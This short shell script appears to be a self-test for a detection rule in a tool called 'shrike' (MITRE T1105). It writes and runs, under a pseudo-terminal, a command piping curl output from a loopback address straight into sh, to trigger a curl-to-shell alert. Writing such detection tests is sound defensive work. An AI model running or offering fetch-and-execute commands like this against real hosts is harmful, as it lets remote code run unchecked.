#!/bin/sh
# rule: Fetched text goes to an interpreter in a login session
# technique: T1105
# case: at a terminal, curl fetches from nobody for a shell
# needs: script, curl

cd "${ATTACK_DIRECTORY:?shrike selftest runs it}" || exit
echo 'curl -s http://127.0.0.1:9/install.sh | { sleep 0.1; exec sh; }' > deliver.sh
script -qec "sh deliver.sh" /dev/null < /dev/null > /dev/null
